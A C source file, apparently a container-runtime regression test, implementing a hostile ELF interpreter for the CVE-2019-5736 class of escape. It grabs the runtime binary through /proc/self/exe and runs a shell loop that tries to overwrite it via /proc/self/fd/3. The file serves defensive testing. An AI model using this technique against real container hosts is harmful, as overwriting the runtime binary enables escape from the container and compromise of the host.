/* A hostile ELF interpreter for the /proc/self/exe overwrite test (the
 * class of CVE-2019-5736).  Placed in a container's rootfs as the
 * interpreter husk's own binary asks for, it runs whenever the container
 * manages to execute the runtime's binary: it keeps that binary open
 * (O_PATH, inherited across exec) on fd 3, then becomes a shell that keeps
 * trying to write to it through /proc/self/fd/3 once no runtime process is
 * left running it.  The shell prints "overwritten" if a write got through,
 * "refused" if none did.  Built without a C library: as an interpreter it
 * gets the runtime's auxiliary vector, which a libc start-up would misread. */
#include "exec-stub/sys.h"

#define AT_FDCWD_ (-100)
#define O_PATH_   010000000

static const char script[] =
    "i=0; while [ $i -lt 30 ]; do"
    " if (printf pwned >/proc/self/fd/3) 2>/dev/null; then echo overwritten; exit 0; fi;"
    " sleep 0.1; i=$((i + 1)); done; echo refused";

static void say(const char *msg)
{
	sys_write(2, msg, str_len(msg));
}

__attribute__((used)) void grabber_main(long *sp);
__attribute__((used)) void grabber_main(long *sp)
{
	long argc = sp[0];
	char **envp = (char **)(sp + 1 + argc + 1);
	long fd = sys_openat(AT_FDCWD_, "/proc/self/exe", O_PATH_);
	if (fd < 0) {
		say("exe-grabber: cannot open /proc/self/exe\n");
		sys_exit(2);
	}
	if (fd != 3 && sys_dup3((int)fd, 3, 0) < 0) {
		say("exe-grabber: dup3 failed\n");
		sys_exit(2);
	}
	char *argv[] = {"sh", "-c", (char *)script, 0};
	sys_execve("/bin/sh", argv, envp);
	say("exe-grabber: cannot exec /bin/sh\n");
	sys_exit(3);
}

STUB_ENTRY(grabber_main);
